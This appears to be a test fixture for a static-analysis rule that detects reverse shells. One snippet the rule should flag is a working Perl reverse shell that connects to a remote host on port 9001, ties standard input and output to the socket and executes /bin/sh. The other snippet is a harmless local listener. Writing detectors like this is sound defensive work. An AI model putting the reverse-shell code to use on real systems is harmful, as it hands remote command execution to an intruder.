# ruleid: shells-reverse-other-languages
my $far = IO::Socket::INET->new(PeerAddr => $host, PeerPort => 9001);
STDIN->fdopen($far, "r");
STDOUT->fdopen($far, "w");
exec "/bin/sh";

# ok: shells-reverse-other-languages
my $near = IO::Socket::INET->new(LocalPort => 8080, Listen => 1);
print "waits\n";
